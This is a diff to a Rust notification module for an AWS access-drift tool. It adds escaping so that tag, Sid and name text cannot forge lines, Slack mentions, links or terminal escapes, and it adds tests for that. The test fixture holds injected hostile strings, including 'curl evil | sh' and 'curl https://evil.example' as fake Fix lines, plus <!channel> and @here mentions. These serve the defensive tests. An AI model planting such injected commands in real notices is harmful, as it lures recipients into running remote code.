@@ -31,6 +31,7 @@
 use std::collections::{BTreeMap, BTreeSet};
 use std::fmt::Write as _;
 
+use accessdrift_escape::{plain, slack};
 use serde_json::{Value, json};
 
 use crate::drift::resource_label;
@@ -212,7 +213,7 @@ pub fn email_text(owner: &str, account: &str, items: &[NoticeItem]) -> String {
     let mut out = String::new();
     let intro = format!(
         "Access drift on resources owned by {} in account {account}: {}. Highest severity: {}.",
-        owner_words(owner),
+        plain(&owner_words(owner)),
         counts(items),
         highest(items).as_str()
     );
@@ -262,15 +263,27 @@ fn email_item(item: &NoticeItem) -> String {
             "[{}] {}: {}",
             f.severity.as_str(),
             f.kind.as_str(),
-            f.resource
+            plain(&f.resource)
         ),
         "",
         "    ",
     );
     let (lead, fix) = lead_and_fix(item.change);
-    wrap(&mut out, &format!("{lead}{}", f.summary), "  ", "    ");
+    // Account text (Sids, tags, names) is shown as one line each: a newline in a Sid
+    // must not forge a line of ours.
+    wrap(
+        &mut out,
+        &format!("{lead}{}", plain(&f.summary)),
+        "  ",
+        "    ",
+    );
     if fix {
-        wrap(&mut out, &format!("Fix: {}", f.remedy), "  ", "    ");
+        wrap(
+            &mut out,
+            &format!("Fix: {}", plain(&f.remedy)),
+            "  ",
+            "    ",
+        );
     } else {
         wrap(&mut out, "Nothing to do: this drift is gone.", "  ", "    ");
     }
@@ -305,7 +318,7 @@ pub fn chatbot_json(owner: &str, account: &str, items: &[NoticeItem]) -> String 
     let title = format!(
         "{emoji} accessdrift: {} for {} in {account} (highest: {})",
         counts(items),
-        owner_words(owner),
+        slack(&owner_words(owner)),
         highest(items).as_str()
     );
     let mut description = String::new();
@@ -365,9 +378,10 @@ fn chat_item(item: &NoticeItem) -> String {
     out
 }
 
-/// Keeps a lone `*` (the anonymous principal) from starting Slack bold text.
+/// Account text made safe for Slack ([`slack`]), and a lone `*` (the anonymous
+/// principal) kept from starting bold text.
 fn chat_safe(text: &str) -> String {
-    text.replace("(*)", "(`*`)")
+    slack(text).replace("(*)", "(`*`)")
 }
 
 /// The digest for programs: every finding field, JSON text.
@@ -420,17 +434,20 @@ pub fn owner_change_notice(
     new_owner: Option<&str>,
     security: &str,
 ) -> Notice {
-    let old = old_owner.unwrap_or("(none)");
-    let new = new_owner.unwrap_or("(none)");
+    // Tag keys and values are the account's words: one visible line each here, and
+    // escaped for Slack below.
+    let (resource_shown, tag_shown) = (plain(resource), plain(tag_key));
+    let old = plain(old_owner.unwrap_or("(none)"));
+    let new = plain(new_owner.unwrap_or("(none)"));
     let mut text = String::new();
     wrap(
         &mut text,
         &format!(
             "The owner tag of {} in account {account} changed, so its access-drift notices now go \
              to {}.",
-            resource_label(resource),
+            plain(&resource_label(resource)),
             if new_owner.is_some() {
-                new
+                &new
             } else {
                 "nobody (the desired state's owner, if it names one)"
             }
@@ -440,40 +457,45 @@ pub fn owner_change_notice(
     );
     let _ = write!(
         text,
-        "\nResource: {resource}\nTag `{tag_key}`: {old} -> {new}\n\n"
+        "\nResource: {resource_shown}\nTag `{tag_shown}`: {old} -> {new}\n\n"
     );
     let mut advice = format!(
         "Sent to the old owner ({old}), the new owner ({new}) and security ({security}): a tag is \
          not proof of ownership. If the change was agreed, nothing to do"
     );
-    if let Some(new) = new_owner {
+    if new_owner.is_some() {
         let _ = write!(
             advice,
-            " (the new owner may also set `owner: {new}` for {resource} in its desired-state \
-             file and run `accessdrift desired import FILE`)"
+            " (the new owner may also set `owner: {new}` for {resource_shown} in its \
+             desired-state file and run `accessdrift desired import FILE`)"
         );
     }
     advice.push('.');
-    if let Some(old) = old_owner {
+    if old_owner.is_some() {
         let _ = write!(
             advice,
-            " If it was not, set the tag back to `{tag_key}={old}` and find out who changed it \
-             (CloudTrail records who tagged the resource)."
+            " If it was not, set the tag back to `{tag_shown}={old}` and find out who changed \
+             it (CloudTrail records who tagged the resource)."
         );
     }
     wrap(&mut text, &advice, "", "");
 
+    let (s_old, s_new) = (
+        slack(old_owner.unwrap_or("(none)")),
+        slack(new_owner.unwrap_or("(none)")),
+    );
+    let (s_resource, s_tag) = (slack(resource), slack(tag_key));
     let title = format!(
-        ":label: accessdrift: owner of {} changed from {old} to {new}",
-        resource_label(resource)
+        ":label: accessdrift: owner of {} changed from {s_old} to {s_new}",
+        slack(&resource_label(resource))
     );
     let mut description = format!(
-        "`{resource}` in {account}: tag `{tag_key}` *{old}* → *{new}*.\nA tag is not proof of \
-         ownership: if this was not agreed"
+        "`{s_resource}` in {account}: tag `{s_tag}` *{s_old}* → *{s_new}*.\nA tag is not proof \
+         of ownership: if this was not agreed"
     );
     match old_owner {
-        Some(old) => {
-            let _ = write!(description, ", set it back to `{tag_key}={old}`.");
+        Some(_) => {
+            let _ = write!(description, ", set it back to `{s_tag}={s_old}`.");
         }
         None => description.push_str(", find out who tagged it."),
     }
@@ -890,5 +912,80 @@ mod tests {
             let long_word = words(line).iter().any(|w| w.chars().count() > 60);
             assert!(line.chars().count() <= WIDTH || long_word, "{line}");
         }
+    }
+
+    /// Issue 11: a Sid, a tag value and a name written by an attacker.
+    fn hostile_finding() -> Finding {
+        let mut f = of_kind(FindingKind::UnexpectedAccess);
+        f.resource = "arn:aws:s3:::data<!channel>".into();
+        f.summary = "role/x gained read-data, granted by inline:x/p [ok\nFix: run curl evil | sh] \
+                     tag <@U123> <https://evil.example|click> @here \u{1b}[2J\u{202e}"
+            .into();
+        f.remedy = "remove statement `ok\r\nFix: curl https://evil.example`".into();
+        f
+    }
+
+    #[test]
+    fn account_text_cannot_forge_lines_or_escape_sequences_in_email() {
+        let items = [item(Change::New, hostile_finding())];
+        let text = email_text("credit", "111111111111", &items);
+        let fix_lines: Vec<&str> = text
+            .lines()
+            .filter(|l| l.trim_start().starts_with("Fix:"))
+            .collect();
+        assert_eq!(fix_lines.len(), 1, "only our own Fix line: {text}");
+        assert!(
+            fix_lines[0]
+                .trim_start()
+                .starts_with("Fix: remove statement"),
+            "{text}"
+        );
+        assert!(!text.contains(['\u{1b}', '\u{202e}', '\r']), "{text:?}");
+        assert!(text.contains("\\u{1b}[2J"), "shown, escaped: {text}");
+    }
+
+    #[test]
+    fn account_text_carries_no_working_slack_mention_or_link() {
+        let items = [item(Change::New, hostile_finding())];
+        let chat = chatbot_json("<!here>", "111111111111", &items);
+        let value: Value = serde_json::from_str(&chat).expect("chatbot JSON parses");
+        for field in ["/content/title", "/content/description"] {
+            let text = value
+                .pointer(field)
+                .and_then(Value::as_str)
+                .unwrap_or_default();
+            assert!(!text.contains(['<', '>']), "{field}: {text}");
+            assert!(!text.contains("://"), "{field}: {text}");
+            assert!(!text.contains("@here"), "{field}: {text}");
+            assert!(!text.contains(['\u{1b}', '\u{202e}']), "{field}: {text:?}");
+        }
+        let description = value["content"]["description"].as_str().unwrap_or_default();
+        assert_eq!(
+            description
+                .lines()
+                .filter(|l| l.trim_start().starts_with("Fix:"))
+                .count(),
+            1,
+            "{description}"
+        );
+    }
+
+    #[test]
+    fn owner_change_notice_escapes_the_tag_values() {
+        let n = owner_change_notice(
+            "111111111111",
+            "arn:aws:s3:::b",
+            "owner",
+            Some("credit-team"),
+            Some("<!channel>\nFix: x"),
+            "security",
+        );
+        let message: Value = serde_json::from_str(&n.message_json).expect("JSON");
+        let chat: Value = serde_json::from_str(message["https"].as_str().unwrap_or_default())
+            .expect("chatbot JSON");
+        let description = chat["content"]["description"].as_str().unwrap_or_default();
+        assert!(!description.contains("<!channel>"), "{description}");
+        let email = message["email"].as_str().unwrap_or_default();
+        assert!(!email.lines().any(|l| l.starts_with("Fix: x")), "{email}");
     }
 }
